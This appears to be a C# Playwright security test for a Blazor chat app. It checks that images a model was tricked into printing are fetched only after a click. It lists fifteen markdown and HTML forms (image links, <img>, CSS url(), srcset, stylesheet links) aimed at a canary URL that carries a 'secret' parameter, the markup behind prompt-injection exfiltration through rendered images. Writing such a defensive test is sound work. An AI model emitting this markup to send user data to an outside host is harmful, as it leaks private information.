using BlazorAgents.Data;
using BlazorAgents.E2E.Fixtures;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace BlazorAgents.E2E.Security;

[Collection(ScriptedTests.Name)]
public sealed class RemoteImageTests(ScriptedApp fixture) : BrowserTest
{
    [Fact]
    [Trait("Id", "SEC-07")]
    public async Task Images_that_a_model_was_tricked_into_printing_are_asked_for_only_after_a_click()
    {
        await using var canary = new CanaryServer();
        var url = $"https://canary.test:{canary.Port}/leak.png?secret=1";
        string[] forms =
        [
            $"![pixel]({url})", $"![pixel](<{url}>)", $"![pixel]({url} \"title\")", $"![pixel][r]\n\n[r]: {url}", $"![r]\n\n[r]: {url}",
            $"[![pixel]({url})](https://example.com)", $"| a |\n|---|\n| ![pixel]({url}) |", $"- ![pixel]({url})", $"> ![pixel]({url})",
            $"# ![pixel]({url})", $"<img src=\"{url}\">", $"<style>body{{background:url({url})}}</style>", $"**![pixel]({url})**",
            $"<picture><source srcset=\"{url}\"></picture>", $"<link rel=\"stylesheet\" href=\"{url}\">",
        ];
        var person = await fixture.AddPersonAsync();
        await using var data = new AppData(fixture.App);
        var conversation = await data.AddConversationAsync(person, "Images", forms.Select(form => (form, (IReadOnlyList<ItemPayload>)[new ItemPayload.Text(form)])));
        var visit = await VisitAsync(fixture.App, person);
        var tab = await visit.OpenChatAsync($"/c/{conversation}");
        await Expect(tab.RunStates).ToHaveCountAsync(forms.Length);
        var images = tab.Page.Locator("button.md-image");
        await Expect(images).ToHaveCountAsync(11);
        await tab.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);
        Assert.Empty(canary.Hits);
        Assert.Empty(visit.Problems);

        // The test can see a request: the click makes one.
        visit.Allow("canary.test");
        visit.Allow("Failed to load resource|ERR_");
        await images.First.ClickAsync();
        await canary.Hit.WaitAsync(TimeSpan.FromSeconds(30));
    }
}
